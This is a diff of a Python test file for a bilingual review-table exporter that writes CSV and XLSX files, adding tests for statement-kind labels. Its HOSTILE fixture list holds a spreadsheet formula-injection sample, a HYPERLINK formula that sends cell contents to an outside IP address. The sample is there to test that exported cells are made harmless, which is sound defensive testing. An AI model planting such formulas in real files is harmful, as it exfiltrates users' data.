@@ -7,14 +7,15 @@ from openpyxl import load_workbook
 from tests.interchange.tables import candidate, practice
 
 from kakehashi.interchange.review_table import (
-    SIGN_WORDS,
     harmless,
     table_rows,
     write_csv,
     write_xlsx,
 )
+from kakehashi.interchange.statement_words import KIND_WORDS, SIGN_WORDS
 from kakehashi.interchange.table_columns import ANSWERS, COLUMNS, QUOTES
 from kakehashi.matching.signs import SIGNS
+from kakehashi.model.statement import StatementKind
 
 HOSTILE = [
     '=HYPERLINK("http://192.0.2.1/?"&A1)',
@@ -52,8 +53,19 @@ def test_a_row_shows_the_best_quotes_with_their_places_and_looks():
 
     assert row["quote_1"] == "[The board reviews:] the log;"
     assert row["where_1"] == "policy.pdf, p. 3"
-    assert row["looks_1"].count(";") == 1
-    assert SIGN_WORDS["planned"].ja in row["looks_1"]
+    looks = [KIND_WORDS[StatementKind.DONE], SIGN_WORDS["planned"], SIGN_WORDS["others"]]
+    assert row["looks_1"] == "; ".join(words.ja for words in looks)
+
+
+@pytest.mark.parametrize(
+    ("kind", "sign"), [(StatementKind.PLANNED, "planned"), (StatementKind.EXCLUDED, "negated")]
+)
+@pytest.mark.parametrize("language", ["en", "ja"])
+def test_what_is_planned_or_excluded_is_shown_as_such_and_said_once(kind, sign, language):
+    shown = candidate("a log", signs=(sign,), kind=kind)
+    (row,) = table_rows([practice("GOV-01")], {"practices:GOV-01": [shown]}, {}, {}, language)
+
+    assert row["looks_1"] == KIND_WORDS[kind].get(language)
 
 
 def test_no_more_quotes_are_shown_than_there_are_columns():
@@ -72,6 +84,10 @@ def test_a_table_without_decisions_has_none_filled_in():
 def test_every_sign_has_words_in_both_languages():
     assert set(SIGN_WORDS) >= set(SIGNS)
     assert all(SIGN_WORDS[sign].en and SIGN_WORDS[sign].ja for sign in SIGNS)
+
+
+def test_every_kind_of_statement_has_words_in_both_languages():
+    assert all(KIND_WORDS[kind].en and KIND_WORDS[kind].ja for kind in StatementKind)
 
 
 @pytest.mark.parametrize("language", ["en", "ja"])
